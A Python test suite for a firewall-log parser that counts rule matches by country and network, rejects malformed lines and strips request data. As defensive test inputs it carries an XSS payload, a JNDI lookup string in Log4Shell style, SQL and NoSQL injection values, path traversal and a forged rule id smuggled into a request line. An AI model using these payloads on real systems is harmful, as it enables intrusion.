"""Firewalls' logs: what is read of a line, what is refused, and what is never kept."""

from __future__ import annotations

import gzip
import json
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any, cast

import polars as pl
import pytest

from radar.errors import UpstreamChanged
from radar.sources import _waf_text as text
from radar.sources._log_source import packed
from radar.sources._rejections import Rejections
from radar.sources._waf_rows import PARTIALS, counted
from radar.sources.waf_events import details, fetch, parse
from tests.sources.fixtures import cases

LINE = {"time": "2026-03-02T10:00:01Z", "rule": "942100", "action": "blocked", "country": "BR", "asn": 28573}


def body(*rows: Any) -> bytes:
    return b"".join((row if isinstance(row, bytes) else json.dumps(row).encode()) + b"\n" for row in rows)


def rejected(*rows: Any) -> dict[str, int]:
    return {item.reason: item.count for item in parse(body(LINE, *rows)).rejected}


def modsecurity(**changed: Any) -> dict[str, Any]:
    message = {"message": "SQL Injection", "details": {"ruleId": "942100", "tags": ["CVE-2020-1234"]}}
    request = {"client_ip": "8.8.8.8", "time_stamp": "Mon Mar  2 10:00:00 2026", "messages": [message], **changed}
    return {"transaction": request}


# What is counted -----------------------------------------------------------------------------------------------------


def test_a_match_counts_for_its_country_and_its_network_and_for_what_it_was_aimed_at() -> None:
    parsed = parse(body({**LINE, "target_country": "de", "provider": "acme-cloud"}, LINE))
    assert parsed.rows.select("entity", "signal", "value", "n").rows() == [
        ("asn/28573", "waf.matches", 2.0, 2),
        ("country/BR", "waf.matches", 2.0, 2),
        ("country/DE", "waf.matches_to", 1.0, 1),
        ("provider/acme-cloud", "waf.matches_to", 1.0, 1),
    ]


def test_a_match_without_an_origin_counts_for_its_rule_and_for_no_place() -> None:
    row = {"time": LINE["time"], "rule": "942100", "client": "10.0.0.1"}
    assert parse(body(row)).rows.is_empty()
    assert parse(body(row)).notes["matches without an origin"] == 1
    (told,) = details(body(row))
    assert (told["matches"], told["countries"], told["networks"]) == (1, {}, {})


def test_what_the_log_names_is_believed_before_the_table_of_addresses() -> None:
    (told,) = details(body({**LINE, "client": "8.8.8.8"}))
    assert (told["countries"], told["networks"]) == ({"country/BR": 1}, {"asn/28573": 1})


def test_an_action_that_nobody_knows_is_neither_refused_nor_passed() -> None:
    (told,) = details(body(LINE, {**LINE, "action": "nuke"}, {**LINE, "action": None}, {**LINE, "action": "log"}))
    assert (told["matches"], told["acted"], told["blocked"]) == (4, 2, 1)
    assert parse(body({**LINE, "action": 5})).notes["matches without an action"] == 1


def test_first_and_last_match_are_told_to_the_second() -> None:
    times = ["2026-03-02T10:03:20Z", "2026-03-02T10:00:07+00:00", "2026-03-02T11:04:59+01:00"]
    (told,) = details(body(*({**LINE, "time": time} for time in times)))
    assert (told["first"], told["last"]) == ("2026-03-02T10:00:07Z", "2026-03-02T10:04:59Z")


@pytest.mark.parametrize("time", [1772445601, "1772445601", 1772445601000, 1772445601000000, 1772445601000000000])
def test_numbers_of_seconds_to_nanoseconds_are_the_same_time(time: Any) -> None:
    (told,) = details(body({**LINE, "time": time}))
    assert told["first"] == "2026-03-02T10:00:01Z"


def test_partials_of_any_pieces_merge_into_those_of_the_whole() -> None:
    rows = [{**LINE, "time": 1772445600 + 7 * i, "rule": str(942100 + i % 3), "asn": 28573 + i % 2} for i in range(90)]
    whole = counted(body(*rows), 1, Rejections())
    parts = [counted(body(*rows[at : at + 11]), 1 + at, Rejections()) for at in range(0, 90, 11)]
    keys = [name for name in PARTIALS if name != "amount"]
    amount = pl.col("amount")
    merged = pl.concat(parts).group_by(keys).agg(
        pl.when(pl.col("field").first() == "matches").then(amount.sum()).otherwise(amount.max()))  # fmt: skip
    assert merged.sort(keys).rows() == whole.sort(keys).rows()


def test_compressed_logs_are_read_and_one_that_is_cut_off_is_said_to_be() -> None:
    packed = gzip.compress(body(*([LINE] * 2000)), mtime=0)
    assert parse(packed).notes["matches"] == 2000
    cut = parse(gzip.compress(body(*({**LINE, "asn": i + 1} for i in range(2000))), mtime=0)[:-400])
    assert "compressed file ends early" in {item.reason for item in cut.rejected}


# The forms -----------------------------------------------------------------------------------------------------------


def test_a_refused_request_counts_as_refused_for_every_rule_that_matched_it() -> None:
    row = modsecurity(messages=[{"message": m, "details": {"ruleId": r}} for m, r in (("a", "942100"), ("b", 949110))])
    assert {told["rule"]: told["blocked"] for told in details(body(row))} == {"942100": 1, "949110": 1}


def test_modsecurity_says_what_became_of_a_request_by_its_status_or_not_at_all() -> None:
    for response, acted, blocked in (
        ({"http_code": 403}, 1, 1),
        ({"http_code": 200}, 1, 0),
        ({"http_code": "x"}, 0, 0),
    ):
        (told,) = details(body(modsecurity(response=response)))
        assert (told["acted"], told["blocked"]) == (acted, blocked), response


def test_a_request_that_no_rule_matched_is_no_rejection() -> None:
    parsed = parse(body(modsecurity(messages=[])))
    assert parsed.rows.is_empty()
    assert not parsed.rejected
    assert parsed.notes == {"lines": 1, "lines without a match": 1}


def test_a_request_cannot_pass_off_its_own_text_as_a_rule() -> None:
    line = (b'2026/03/02 10:08:00 [error] 1#1: *5 [client 8.8.8.8] ModSecurity: Access denied with code 403. '
            b'[id "942100"] [msg "SQL Injection"] [data "[id \\"1\\"] [msg \\"yours\\"]"], client: 8.8.8.8, '
            b'request: "GET /?[id "666"][msg "evil"] HTTP/1.1"')  # fmt: skip
    (told,) = details(body(line))
    assert (told["rule"], told["title"], told["blocked"]) == ("942100", "SQL Injection", 1)


def test_a_warning_in_the_error_log_does_not_say_what_became_of_the_request() -> None:
    line = b'2026/03/02 10:08:00 [info] 1#1: *5 ModSecurity: Warning. x [id "941100"] [msg "XSS"], client: 8.8.8.8'
    (told,) = details(body(line))
    assert (told["matches"], told["acted"]) == (1, 0)


def test_forms_may_be_mixed_in_one_file() -> None:
    lines = [line for case in cases("waf_events") for line in case.file.read_bytes().splitlines()]
    parts = sum(parse(case.file.read_bytes()).notes["matches"] for case in cases("waf_events"))
    assert parse(body(*lines)).notes["matches"] == parts


# What is refused -----------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("row", "reason"),
    [
        ({**LINE, "time": "2026-03-02T10:00:01"}, "time cannot be read or has no zone"),
        ({**LINE, "time": "soon"}, "time cannot be read or has no zone"),
        ({**LINE, "time": True}, "time cannot be read or has no zone"),
        ({**LINE, "time": 1e300}, "time cannot be read or has no zone"),
        ({**LINE, "time": "2999-03-02T10:00:01Z"}, "time cannot be read or has no zone"),
        ({**LINE, "time": None}, "no time"),
        ({**LINE, "rule": None}, "no rule"),
        ({**LINE, "rule": {"$gt": ""}}, "rule is no id"),
        ({**LINE, "rule": "x" * 101}, "rule is no id"),
        ({**LINE, "rule": "<script>"}, "rule is no id"),
        ({**LINE, "rule": "192.0.2.1"}, "rule is no id"),
        ({**LINE, "rule": -1}, "rule is no id"),
        ({**LINE, "country": "QQ"}, "unknown country"),
        ({**LINE, "country": 55}, "unknown country"),
        ({**LINE, "target_country": "Germany"}, "unknown country"),
        ({**LINE, "asn": 2**32}, "not an AS number"),
        ({**LINE, "asn": True}, "not an AS number"),
        ({**LINE, "asn": "AS5 OR 1=1"}, "not an AS number"),
        ({**LINE, "provider": "../etc"}, "provider is not a slug"),
        ({"transaction": "x"}, "'transaction' is no object"),
        (modsecurity(messages=[{"message": "x"}]), "a message has neither 'details' nor 'data'"),
        ({"hello": 1}, "line has none of the known forms"),
        (b'{"time":"2026-03', "line is no JSON object"),
        (b"[1,2]", "line is neither a JSON object nor of nginx's error log"),
        (b"2026/03/02 10:08:00 [error] 1#1: *5 open() failed", "line of the error log that tells of no rule"),
        (b'{"time":"' + b"x" * (5 << 20) + b'"}', "line is longer than 4 MiB"),
    ],
)  # fmt: skip
def test_a_line_that_cannot_be_used_is_counted_with_its_reason(row: Any, reason: str) -> None:
    assert rejected(row) == {reason: 1}


def test_examples_name_the_line() -> None:
    (item,) = parse(body(LINE, LINE, {**LINE, "asn": 0})).rejected
    assert item.example == "line 3: asn is 0"


def test_a_log_in_which_no_line_can_be_used_is_an_error_that_says_what_was_expected() -> None:
    with pytest.raises(UpstreamChanged, match="no line is a firewall's: expected NDJSON with 'time' and 'rule'"):
        parse(body(b"GET / HTTP/1.1", b"Host: x"))


# What is never kept --------------------------------------------------------------------------------------------------


def test_a_title_keeps_no_markup_no_control_character_and_no_megabyte() -> None:
    hostile = "\x1b[31mDrop\x00\u202e <img src=x onerror=alert(1)> tables" + "!" * 1_000_000
    (told,) = details(body({**LINE, "title": hostile}))
    assert told["title"] == "Drop tables"
    assert len(text.title("word " * 1000)) <= text.LONGEST_TITLE


@pytest.mark.parametrize("secret", ["192.0.2.77", "2001:db8::77", "https://shop.example/x?card=4111", "eve@example.org",
                                    "${jndi:ldap://192.0.2.77/a}"])  # fmt: skip
def test_nothing_of_the_request_reaches_rows_details_or_rejections(secret: str) -> None:
    rows = [
        {**LINE, "title": f"Attack from {secret} seen", "client": secret, "host": secret, "uri": secret},
        {**LINE, "rule": secret},
        {**LINE, "time": secret},
        {**LINE, "country": secret},
        modsecurity(request={"uri": secret, "headers": {"Host": secret}}, client_ip=secret),
    ]
    parsed = parse(body(*rows))
    told = f"{details(body(*rows))} {parsed.rows.rows()} {parsed.rejected}"
    for piece in (secret, "192.0.2.77", "db8::77", "card", "eve", "jndi"):
        assert piece not in told


def test_a_message_that_quotes_a_score_stays_one_title() -> None:
    titles = {text.title(f"Inbound Anomaly Score Exceeded (Total Score: {n})") for n in (5, 10, 15)}
    assert titles == {"Inbound Anomaly Score Exceeded"}


def test_of_tags_only_cve_numbers_are_kept() -> None:
    (told,) = details(body({**LINE, "tags": ["attack-rce", "cve-2021-44228", 7, "CVE-2021-44228"], "cve": "CVE-x"}))
    assert told["cve"] == ["CVE-2021-44228"]


# Partials of hours ---------------------------------------------------------------------------------------------------


def hour_file() -> bytes:
    found = counted(body(LINE, LINE), 1, Rejections()).with_columns(bin=pl.lit(1772445600, dtype=pl.Int64))
    return packed(found, 3600)


def test_an_hour_tells_its_rules_and_gives_no_rows_that_its_bins_have_given() -> None:
    assert parse(hour_file()).rows.is_empty()
    (told,) = details(hour_file())
    assert (told["grain_s"], told["bin"], told["matches"]) == (3600, "2026-03-02T10:00:00Z", 2)


def test_partials_that_are_cut_off_or_of_other_columns_are_refused_by_name() -> None:
    whole = hour_file()
    for broken in (whole[:-9], whole[: len(whole) // 2] + b"PAR1", packed(pl.DataFrame({"bin": [1]}), 300)):
        with pytest.raises(UpstreamChanged, match=r"^waf_events: "):
            parse(broken)


def test_files_become_bins_and_hours_that_hold_no_address(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("RADAR_DATA_DIR", str(tmp_path / "data"))
    monkeypatch.setenv("RADAR_WAF_EVENTS", str(tmp_path / "logs"))
    (tmp_path / "logs").mkdir()
    client = {"time": "2026-03-02T10:07:00Z", "rule": "942100", "client": "8.8.8.8", "title": "SQL from 8.8.8.8"}
    (tmp_path / "logs" / "waf.ndjson").write_bytes(body(LINE, client, {**LINE, "asn": 0}))
    since = datetime(2026, 3, 2, 9, tzinfo=UTC)
    given = list(fetch(cast(Any, None), since, since + timedelta(hours=3)))
    told = [(row["bin"], row["grain_s"], row["matches"]) for answer in given for row in details(answer.body)]
    assert told == [
        ("2026-03-02T10:00:00Z", 300, 1),
        ("2026-03-02T10:05:00Z", 300, 1),
        ("2026-03-02T10:00:00Z", 3600, 2),
    ]
    assert [item.reason for answer in given for item in parse(answer.body).rejected] == ["not an AS number"]
    assert all(b"8.8.8.8" not in answer.body for answer in given)
    assert list(fetch(cast(Any, None), since, since + timedelta(hours=3))) == []
